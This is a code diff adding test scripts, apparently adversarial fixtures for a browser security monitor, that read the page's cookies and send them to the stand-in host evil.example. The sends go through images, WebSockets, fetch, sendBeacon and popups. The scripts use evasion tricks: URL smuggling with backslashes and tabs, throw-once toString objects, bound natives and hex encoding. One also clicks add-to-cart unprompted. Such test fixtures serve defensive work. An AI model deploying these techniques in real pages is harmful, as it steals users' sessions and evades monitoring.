@@ -304,6 +304,59 @@ export const MAIN_WORLD_SCRIPTS = {
 })();`,
 
   /**
+   * URLs that look like the shop's own paths to a quick test but go elsewhere: `/\\host` (a backslash is a
+   * slash to the URL parser) and `/<tab>/host` (tabs are dropped), as an image pixel, a window and a socket.
+   */
+  'slipped-urls': `(() => {
+  const c = encodeURIComponent(document.cookie);
+  new Image().src = '/\\\\evil.example/s-backslash.gif?c=' + c;
+  new Image().src = '/\\t/evil.example/s-tab.gif?c=' + c;
+  const socket = new WebSocket('/\\\\evil.example/s-socket?c=' + c);
+  socket.onerror = () => {};
+  window.open('/\\n/evil.example/s-window?c=' + c, 'slipped', 'popup');
+})();`,
+
+  /**
+   * URL and code objects whose toString throws the first time it runs and works after: a wrapper that turns
+   * the argument into text before the browser does would see the error, and the browser the URL. Each call
+   * must fail as it does without Saq (with the page's error) — or be judged. What happened is left in
+   * `window.__throwOnce`.
+   */
+  'throw-once-urls': `(() => {
+  const c = encodeURIComponent(document.cookie);
+  const once = (text) => { let calls = 0; return { toString() { if (calls++ === 0) throw new Error('not yet'); return text; } }; };
+  const outcome = (window.__throwOnce = {});
+  const attempt = (name, act) => {
+    try {
+      const result = act();
+      outcome[name] = 'made';
+      if (result && typeof result.then === 'function') result.then(() => (outcome[name] = 'sent'), (e) => (outcome[name] = 'failed: ' + e.message));
+    } catch (e) {
+      outcome[name] = 'failed: ' + e.message;
+    }
+  };
+  attempt('fetch', () => fetch(once('https://evil.example/t-fetch?c=' + c), { mode: 'no-cors' }));
+  attempt('socket', () => new WebSocket(once('wss://evil.example/t-socket?c=' + c)));
+  attempt('beacon', () => navigator.sendBeacon(once('https://evil.example/t-beacon?c=' + c), c));
+  attempt('timer', () => setTimeout(once('window.__throwOnceRan = true')));
+})();`,
+
+  /**
+   * Natives the helper binds and hands to a promise and a timer, so that no frame of its own is on the
+   * stack when they run: the cookie read, then sent hex-encoded (no secret the network timeline knows) by an
+   * image's bound src setter; and add to cart clicked by a bound click().
+   */
+  'bound-natives': `(() => {
+  const readCookie = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.bind(document);
+  const setSrc = Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, 'src').set;
+  const hex = (text) => Array.from(text, (ch) => ch.charCodeAt(0).toString(16).padStart(2, '0')).join('');
+  Promise.resolve()
+    .then(readCookie)
+    .then((cookie) => setTimeout(setSrc.bind(new Image(), 'https://evil.example/b-bound.gif?d=' + hex(cookie))));
+  setTimeout(HTMLElement.prototype.click.bind(${ADD_TO_CART}), 200);
+})();`,
+
+  /**
    * The cookie sent by loads no page hook wraps: an SVG <image>, a CSS background, an <img> adopted from a
    * document DOMParser made, an Attr changed through `nodeValue`, media, a CSS background whose URL holds
    * the cookie in base64, a frame's `src` and a prefetch link. Only the network timeline sees these, and only the cookie in the URL tells them
